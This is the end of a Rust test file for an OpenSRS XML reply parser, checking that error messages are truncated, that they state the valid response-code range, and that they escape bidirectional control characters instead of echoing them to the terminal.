    // Before: the whole 1 MiB action was copied into the message.
    let action = format!("\u{202E}{}", "A".repeat(MIB));
    // Without response_text: with both response_code and response_text,
    // an envelope whose action is not REPLY reads as a server-level error.
    let xml = reply(&format!(
        "<item key='action'>{action}</item><item key='response_code'>200</item>"
    ))
    .replace("<item key='response_text'>ok</item>", "");
    let doc = parse_str(&xml).expect("parses");
    let e = opensrs_core::Reply::from_document(&doc).expect_err("refused");
    let m = e.to_string();
    assert!(m.chars().count() <= 300, "{} chars", m.chars().count());
    assert!(!m.contains('\u{202E}'), "{m}");
    let at =
        opensrs_core::Position::locate(xml.as_bytes(), xml.find("<item key='action'>").unwrap());
    assert_eq!(
        m,
        format!(
            "{at}: expected action `REPLY`, found `\\u{{202E}}{}…` (at action)",
            "A".repeat(56)
        )
    );
}

#[test]
fn a_response_code_out_of_range_says_the_range() {
    // Before: "expected a response code (digits), found `99999`".
    for code in ["99999", "-1", "65536", "2OO"] {
        let xml = reply(&format!(
            "<item key='action'>REPLY</item><item key='response_code'>{code}</item>"
        ));
        let doc = parse_str(&xml).expect("parses");
        let e = opensrs_core::Reply::from_document(&doc).expect_err("refused");
        let at = opensrs_core::Position::locate(
            xml.as_bytes(),
            xml.find("<item key='response_code'>").unwrap(),
        );
        assert_eq!(
            e.to_string(),
            format!(
                "{at}: expected a response code (a whole number from 0 to 65535), \
                 found `{code}` (at response_code)"
            )
        );
    }
    assert_eq!(
        "99999"
            .parse::<opensrs_core::code::ResponseCode>()
            .unwrap_err()
            .to_string(),
        "response code out of range: a code is a whole number from 0 to 65535"
    );
}

#[test]
fn quoted_input_never_sends_a_control_to_the_terminal() {
    // An element name with bidi controls and an escape-sequence lookalike.
    for name in [
        "a\u{202E}b",
        "x\u{2066}y\u{2069}",
        "m\u{200F}\u{061C}\u{200E}",
    ] {
        let xml = env(&format!("<dt_assoc><{name}/></dt_assoc>"));
        let m = parse_str(&xml).unwrap_err().to_string();
        assert!(
            !m.chars().any(|c| c.is_control()
                || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'
                    | '\u{200E}' | '\u{200F}' | '\u{061C}')),
            "{m:?}"
        );
        assert!(m.contains("\\u{"), "{m}");
    }
}
